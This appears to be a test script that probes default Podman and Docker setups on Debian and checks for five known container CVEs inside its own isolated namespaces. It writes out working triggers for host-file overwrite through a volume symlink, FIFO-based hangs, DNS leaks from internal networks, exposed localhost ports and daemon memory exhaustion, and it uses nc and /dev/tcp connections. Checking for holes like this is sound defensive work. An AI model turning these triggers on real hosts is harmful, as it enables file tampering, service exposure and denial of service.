# The probe in a default container of Podman's and of Docker's, as Debian has them: what it prints, each behind a line with a name;
# then holes that they have still, a line for each attack that succeeds.
# DIR, IMAGE and GROUP are set. Everything of theirs is in this session's namespaces and in DIR.
set -euo pipefail
podman_alone
podman_files "" <<END
[engine]
cgroup_manager = "cgroupfs"
events_logger = "file"
runtime = "runc"
tmp_dir = "$DIR/tmp"
END
podman load -q -i "$IMAGE" >/dev/null
echo "== podman"
podman run --rm --network none --cgroup-parent "$GROUP" -v "$DIR/probe:/probe:ro" busybox /probe

# A volume of an earlier container's, in which it has left a link.
podman volume create data >/dev/null
echo of the host >"$DIR/outside"
ln -s "$DIR/outside" "$(podman volume inspect -f '{{.Mountpoint}}' data)/key"
podman kube play --start=false --network none - >/dev/null 2>&1 <<END || true
apiVersion: v1
kind: ConfigMap
metadata: {name: data}
data: {key: evil}
---
apiVersion: v1
kind: Pod
metadata: {name: pod}
spec:
  containers: [{name: box, image: "docker.io/library/busybox:latest", volumeMounts: [{name: v, mountPath: /v}]}]
  volumes: [{name: v, configMap: {name: data}}]
END
[ "$(cat "$DIR/outside")" != evil ] || echo CVE-2025-9566 podman >>"$DIR/holes"
podman pod rm -f -a >/dev/null 2>&1 || true
# An image whose passwd file is a FIFO: who opens it waits, here until the rest is done.
box=$(podman create --network none busybox true)
root=$(podman mount "$box")
rm -f "$root/etc/passwd"
mkfifo "$root/etc/passwd"
podman umount "$box" >/dev/null
podman commit -q "$box" fifo >/dev/null 2>&1
podman rm "$box" >/dev/null
podman run --rm --network none --cgroup-parent "$GROUP" -u 7:8 fifo true >/dev/null 2>&1 &
waits=$!

# The machine's own name server.
echo nameserver 127.0.0.1 >"$DIR/resolv"
resolv=$(realpath -m /etc/resolv.conf)
mkdir -p "${resolv%/*}"
[ -e "$resolv" ] || touch "$resolv"
mount --bind "$DIR/resolv" "$resolv"
echo '{"deprecated-key-path": "'"$DIR"'/key.json"}' >"$DIR/daemon.json"
export DOCKER_HOST=unix:///run/docker.sock DOCKER_CONFIG=$DIR
dockerd --config-file "$DIR/daemon.json" --data-root "$DIR/data" --exec-root /run/docker --pidfile /run/docker.pid -H $DOCKER_HOST \
  --storage-driver overlay2 --cgroup-parent "$GROUP" --exec-opt native.cgroupdriver=cgroupfs --log-level warn >"$DIR/log" 2>&1 &
daemon=$!
for _ in {1..600}; do docker version >/dev/null 2>&1 && break || sleep 0.1; done
docker load -q -i "$IMAGE" >/dev/null
echo "== docker"
docker run --rm -v "$DIR/probe:/probe:ro" busybox /probe
docker run -d --name filter busybox sleep 1000 >/dev/null
"$DIR/filter" "$(docker inspect -f '{{.State.Pid}}' filter)" >"$DIR/docker.bpf"
docker rm -f filter >/dev/null

# Who has no way out asks, and the machine's name server is asked.
docker network create --internal inner >/dev/null
iptables -I OUTPUT -d 127.0.0.1 -p udp --dport 53
docker run -d --name inner --network inner busybox nslookup secret.example.org >/dev/null
for _ in {1..300}; do
  iptables -vnxL OUTPUT | grep -q '^ *[1-9].*dpt:53' && echo CVE-2024-29018 docker >>"$DIR/holes" && break || sleep 0.1
done
docker rm -f inner >/dev/null
# Somebody on the machine's wire, and a port of 127.0.0.1.
unshare --net sleep 1000 &
far=$!
until [ "$(readlink /proc/$far/ns/net)" != "$(readlink /proc/self/ns/net)" ]; do sleep 0.1; done
far() { nsenter --net=/proc/$far/ns/net "$@"; }
ip link add wire type veth peer name wire netns $far
ip addr add 198.51.100.2/24 dev wire
ip link set wire up
far ip addr add 198.51.100.1/24 dev wire
far ip link set wire up
far ip route add default via 198.51.100.2
docker run -d --name box -p 127.0.0.1:8080:80 busybox sh -c 'truncate -s 160M /etc/group; nc -ll -p 80 -e echo reached' >/dev/null
address=$(docker inspect -f '{{.NetworkSettings.IPAddress}}' box)
for _ in {1..20}; do
  far timeout 5 bash -c "exec 3<>/dev/tcp/$address/80 && cat <&3" 2>/dev/null | grep -q reached && echo CVE-2025-54410 docker >>"$DIR/holes" && break || sleep 0.1
done
# A group file that is one long line.
peak() { sed -n 's/^VmHWM:[^0-9]*\([0-9]*\).*/\1/p' /proc/$daemon/status; }
before=$(peak)
docker exec -u 7:8 box true >/dev/null 2>&1 || true
[ $(($(peak) - before)) -lt 60000 ] || echo CVE-2026-47262 docker >>"$DIR/holes"
docker rm -f box >/dev/null
kill $daemon $far
wait $daemon || true
! kill -KILL $waits 2>/dev/null || echo CVE-2024-9676 podman >>"$DIR/holes"
echo "== holes"
sort "$DIR/holes"
